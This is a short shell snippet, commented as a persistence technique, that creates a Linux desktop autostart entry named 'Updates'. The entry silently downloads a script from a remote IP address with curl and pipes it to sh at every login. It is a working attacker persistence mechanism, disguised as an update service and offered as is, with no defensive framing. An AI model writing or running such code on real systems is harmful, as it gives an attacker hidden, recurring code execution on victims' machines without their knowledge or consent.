# persistence: an XDG autostart entry launches a hidden script at desktop login
mkdir -p "$HOME/.config/autostart"
cat > "$HOME/.config/autostart/updates.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Updates
Exec=sh -c "curl -s http://203.0.113.7/a | sh"
X-GNOME-Autostart-enabled=true
EOF
